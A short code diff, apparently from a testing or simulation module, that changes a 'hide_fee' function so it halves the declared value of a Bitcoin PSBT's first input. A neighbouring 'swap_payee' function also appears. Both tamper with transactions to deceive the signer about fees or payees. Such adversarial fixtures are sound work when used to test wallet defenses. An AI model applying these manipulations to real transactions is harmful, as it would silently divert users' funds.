@@ -33,8 +33,8 @@ def swap_payee(payload: bytes) -> bytes:
     return bytes(psbt.serialize())
 
 
-def hide_fee(payload: bytes, units: int) -> bytes:
-    """The first input is said to be worth less than it is: the rest would silently go to the miner."""
+def hide_fee(payload: bytes) -> bytes:
+    """The first input is said to be worth half of what it is: the rest would silently go to the miner."""
     psbt = PSBT.parse(payload)
-    psbt.inputs[0].witness_utxo.value -= units
+    psbt.inputs[0].witness_utxo.value //= 2
     return bytes(psbt.serialize())
